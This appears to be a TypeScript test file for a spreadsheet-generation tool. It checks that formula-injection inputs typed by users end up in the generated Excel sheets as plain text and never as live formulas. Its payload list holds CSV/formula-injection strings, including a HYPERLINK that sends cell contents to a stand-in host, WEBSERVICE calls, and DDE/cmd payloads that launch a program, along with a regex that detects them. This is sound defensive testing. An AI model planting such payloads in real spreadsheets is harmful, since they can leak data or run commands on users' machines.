/**
 * Formula injection: text typed by users that looks like a formula (`=HYPERLINK(…)`, `+cmd|…`,
 * `-1+1`, `@SUM(…)`, DDE) is copied into the generated sheets as text in both adapters (the
 * `.xlsx` file writer and Office.js), never as a formula; and the formulas the tool writes never
 * contain user text outside a quoted string literal.
 */
import ExcelJS from 'exceljs';
import { analyze } from '../../src/core/analyze';
import type { Cell, CellValue, WorkbookGrid } from '../../src/core/grid';
import { planBuild } from '../../src/core/plans';
import { applyWorkbookPlan as applyExcelPlan } from '../../src/excel/applyPlan';
import { readWorkbookGrid as readExcelGrid } from '../../src/excel/readGrid';
import { buildWorkbookBytes } from '../../src/xlsx/write/build';
import { FakeWorkbook, fakeExcel, supportsUpTo } from '../excel/fake/fakeExcel';
import { xlsx, type SheetSpec } from '../helpers/workbook';

const PAYLOADS = [
  '=HYPERLINK("http://esempio.invalid/?d="&A1,"Clicca qui")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(A1:A9)',
  '=1+1',
  '=WEBSERVICE("http://esempio.invalid")',
  '=DDE("cmd";"/C calc";"!A0")',
];
/** Functions the tool never writes: finding one outside a string literal means user text became a formula. */
const FOREIGN = /HYPERLINK|WEBSERVICE|DDE|cmd\||^[-+]1\+1$|^@SUM\(A1:A9\)$|^=?1\+1$/i;

function register(): Record<'Obiettivi' | 'Fasi' | 'Indicatori', CellValue[][]> {
  const obiettivi: CellValue[][] = [['Anno', 'Settore', 'Responsabile', 'N.', 'Obiettivo', 'Peso']];
  const fasi: CellValue[][] = [['Anno', 'Settore', 'N. obiettivo', 'N. fase', 'Attività da compiere', 'Tempistica']];
  const indicatori: CellValue[][] = [['Anno', 'Settore', 'N.', 'Indicatore', 'Atteso', 'Raggiunto']];
  const settori = ['FINANZIARIO', '=HYPERLINK("http://esempio.invalid","Settore")'];
  for (const settore of settori) {
    PAYLOADS.forEach((p, i) => {
      obiettivi.push([2025, settore, p, i + 1, p, i === 0 ? 100 - 5 * (PAYLOADS.length - 1) : 5]);
      fasi.push([2025, settore, i + 1, 1, p, 'Da gennaio a giugno 2025']);
      indicatori.push([2025, settore, i + 1, p, 10, 8]);
    });
  }
  return { Obiettivi: obiettivi, Fasi: fasi, Indicatori: indicatori };
}

/** Formula text with its string literals removed: what Excel would actually evaluate. */
function outsideLiterals(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""');
}

describe('the .xlsx adapter (peg build)', () => {
  let wb: ExcelJS.Workbook;
  let userSheets: string[];
  beforeAll(async () => {
    const reg = register();
    const sheets: SheetSpec[] = Object.entries(reg).map(([name, rows]) => ({ name, rows: rows as SheetSpec['rows'] }));
    userSheets = sheets.map((s) => s.name);
    const result = await buildWorkbookBytes(await xlsx(sheets), { name: 'iniezione.xlsx' });
    wb = new ExcelJS.Workbook();
    await wb.xlsx.load(result.bytes as unknown as ArrayBuffer);
  });

  function cells(filter: (ws: ExcelJS.Worksheet) => boolean): ExcelJS.Cell[] {
    const out: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets.filter(filter)) ws.eachRow((row) => row.eachCell((c) => void out.push(c)));
    return out;
  }

  it('created generated sheets to look at', () => {
    expect(wb.worksheets.map((w) => w.name).filter((n) => !userSheets.includes(n)).length).toBeGreaterThan(0);
  });

  it('no formula in the written file holds user text outside a string literal', () => {
    const formulas = cells(() => true)
      .map((c) => c.formula ?? (c.value as { sharedFormula?: string } | null)?.sharedFormula)
      .filter((f): f is string => typeof f === 'string');
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(outsideLiterals(f)).not.toMatch(FOREIGN);
  });

  it.each(PAYLOADS)('%s is copied into the generated sheets as a string cell', (p) => {
    // Cells covered by a merge echo their master's value in ExcelJS: only masters hold a value.
    const generated = cells((ws) => !userSheets.includes(ws.name)).filter((c) => !(c.isMerged && c.master !== c));
    const hits = generated.filter((c) => c.value === p || (typeof c.value === 'string' && c.value.includes(p)));
    expect(hits.length).toBeGreaterThan(0);
    for (const c of hits) expect(c.type).toBe(ExcelJS.ValueType.String);
  });

  it("the user's own cells still hold the same text", () => {
    const reg = register();
    for (const [name, rows] of Object.entries(reg)) {
      const ws = wb.getWorksheet(name)!;
      rows.forEach((row, r) =>
        row.forEach((v, c) => {
          if (typeof v === 'string') expect(ws.getCell(r + 1, c + 1).value).toBe(v);
        }),
      );
    }
  });
});

describe('the Office.js adapter (fake Excel that applies Excel’s typing rule)', () => {
  const supports = supportsUpTo('1.9');

  function gridOf(): WorkbookGrid {
    const reg = register();
    const cellOf = (v: CellValue): Cell | null => (v === null ? null : typeof v === 'string' ? { v, fmt: '@' } : { v });
    return { sheets: Object.entries(reg).map(([name, rows]) => ({ name, rows: rows.map((r) => r.map(cellOf)) })) };
  }

  it('writes every payload as text (format @ before the value), and no foreign formula', async () => {
    const fake = new FakeWorkbook();
    for (const s of gridOf().sheets) fake.addSheet(s.name, s.rows.map((r) => r.map((c) => (c ? { v: c.v, fmt: c.fmt } : null))));
    const excel = fakeExcel(fake);
    const grid = await readExcelGrid(excel.run, supports);
    const planned = planBuild(analyze(grid), grid, {});
    const result = await applyExcelPlan(excel.run, supports, planned.plan);
    expect(result.created.length).toBeGreaterThan(0);
    const generated = result.created.flatMap((name) => [...fake.sheet(name)!.cells.values()]);
    for (const c of generated) if (c.formula) expect(outsideLiterals(c.formula)).not.toMatch(FOREIGN);
    for (const p of PAYLOADS) {
      const hits = generated.filter((c) => typeof c.value === 'string' && c.value.includes(p));
      expect(hits.length).toBeGreaterThan(0);
      for (const c of hits) {
        expect(c.formula).toBeUndefined();
        expect(c.numberFormat).toBe('@');
      }
    }
  });
});
